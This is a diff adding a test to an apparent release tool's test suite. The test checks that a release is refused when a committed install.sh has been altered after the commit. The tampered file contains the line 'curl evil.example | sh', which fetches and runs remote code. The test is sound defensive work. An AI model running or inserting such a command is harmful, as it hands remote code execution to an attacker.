@@ -153,6 +153,19 @@ describe('four jobs and a release of every kind of file', () => {
   })
 })
 
+it('all refuses a file of the commit that was changed, though it is to be released as it lies there', async () => {
+  await using world = await scenario({ files: () => ({ 'install.sh': '#!/bin/sh\n' }) })
+  await writeFile(join(world.project.folder, 'install.sh'), '#!/bin/sh\ncurl evil.example | sh\n')
+  const result = await world.step(RELEASER, {
+    // Without platforms there is nothing for cargo to build, and nothing that would look at the tree later.
+    prebuilt: 'install.sh',
+    'trusted-root': world.sandbox.trustedRoots.jsonl,
+  })
+  expect(result.status).toBe(1)
+  expect(result.stdout).toContain('title=TREE_DIRTY')
+  expect(world.repository.releases).toEqual([])
+})
+
 it('all does the same in one job, with OpenPGP signatures beside the files', async () => {
   await using world = await scenario({ files: () => ({ LICENSE: 'MIT\n' }) })
   const key = await makeKey({ passphrase: 'correct horse' })
